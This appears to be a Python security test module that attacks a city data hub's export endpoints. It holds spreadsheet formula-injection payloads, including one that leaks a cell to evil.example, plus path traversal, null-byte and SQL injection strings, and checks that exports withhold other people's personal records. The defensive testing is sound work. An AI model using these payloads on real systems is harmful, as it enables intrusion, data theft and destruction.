"""Attacks by files: formulas that a spreadsheet would run, columns of other people, and addresses that are none."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from collections.abc import Iterator
from typing import Final
from urllib.parse import quote

from tests.attacks.attack import Answer, Attack, AttackClass, got
from tests.attacks.people import STRANGERS

FORMULAS: Final = (
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example?x="&A1,"klik")',
    "\uff1dcmd|' /C calc'!A0",
)
"""They stand in headlines of the city that is attacked (`scene`); the last begins with a sign of full width."""
STARTS: Final = tuple("=+-@\t\r\n\uff1d\uff0b\uff0d\uff20")
NEWS: Final = "/export/newsArticles"
FORMS: Final = ("csv", "ndjson", "xlsx")
COLUMNS: Final = {
    "complaints": "reporterNik,description,address",
    "licenses": "holderNik,holderName",
    "incidents": "callerName,callerPhone,address,description",
    "admissionApplications": "applicantNik,pupilName,pupilNumber",
}
TRICKS: Final = (
    "/export/..%2f..%2fsettings.py",
    "/export/../var/hub.db",
    "/export/complaints.csv%00.xlsx",
    "/export/complaints.exe",
    "/export/sqlite_master.csv",
    f"/export/complaints.csv?fields={quote('nik; DROP TABLE m_kategori')}",
    f"/export/complaints.csv?filter={quote('{ticketNumber: {eq: ')}",
    f"/export/complaints.csv?after={quote(chr(39) + ' OR 1=1 --')}",
    f"/export/complaints.csv?filter={quote('{not: ' * 40)}",
    f"/export/complaints.csv?fields={quote('area.' * 60 + 'name')}",
)


def no_formula(answer: Answer) -> str | None:
    """A table without a cell that begins like a formula, and with those that were, so that something was tried."""
    if answer.status != 200:
        return f"it got {answer.status}: {answer.text[:200]}"
    cells = [cell for row in csv.reader(io.StringIO(answer.text)) for cell in row]
    found = [cell for cell in cells if cell.startswith(STARTS)]
    if found:
        return f"a spreadsheet runs {found[0]!r}"
    came = sum("calc'!A0" in cell or "HYPERLINK" in cell for cell in cells)
    return None if came == len(FORMULAS) else f"only {came} of the headlines came"


def no_running_cell(answer: Answer) -> str | None:
    """A workbook without formulas, whose texts do not begin like one either."""
    if answer.status != 200:
        return f"it got {answer.status}"
    with zipfile.ZipFile(io.BytesIO(answer.content)) as book:
        parts = {name: book.read(name).decode() for name in book.namelist() if name.endswith(".xml")}
    sheets = "".join(text for name, text in parts.items() if "worksheets/" in name)
    texts = re.findall(r"<t(?: [^>]*)?>([^<]*)</t>", "".join(parts.values()))
    if "<f>" in sheets or "<f " in sheets:
        return "it has a formula"
    found = [text for text in texts if text.startswith(STARTS)]
    if found:
        return f"a spreadsheet may run {found[0]!r}"
    came = sum("calc&#39;!A0" in text or "calc'!A0" in text or "HYPERLINK" in text for text in texts)
    return None if came == len(FORMULAS) else f"only {came} of the headlines came"


def no_export(answer: Answer) -> str | None:
    """No file at all, and a reason."""
    return got(400, 404)(answer)


def _formulas() -> Iterator[Attack]:
    for role in ("anonymous", "analyst"):
        for form, judge in (("csv", no_formula), ("xlsx", no_running_cell)):
            path = f"{NEWS}.{form}?fields=headline,articleSection"
            yield Attack(AttackClass.FORMULAS, form, judge, method="GET", path=path, role=role, headers={})
        path = f"{NEWS}.csv?fields=headline&bom=1"
        yield Attack(AttackClass.FORMULAS, "csv for Excel", no_formula, method="GET", path=path, role=role, headers={})


def _files() -> Iterator[Attack]:
    for role in STRANGERS:
        for collection, fields in COLUMNS.items():
            for form in FORMS:
                path = f"/export/{collection}.{form}?fields={fields}"
                # Refused, or without what is not theirs, which is looked for in every answer.
                yield Attack(
                    AttackClass.OTHERS_BY_EXPORT, f"{collection} as {form}", got(200, 400, 403),
                    method="GET", path=path, role=role, headers={},
                )  # fmt: skip
    for path in TRICKS:
        yield Attack(AttackClass.PATHS, path[:60], no_export, method="GET", path=path, headers={})


FILES: Final[list[Attack]] = [*_formulas(), *_files()]
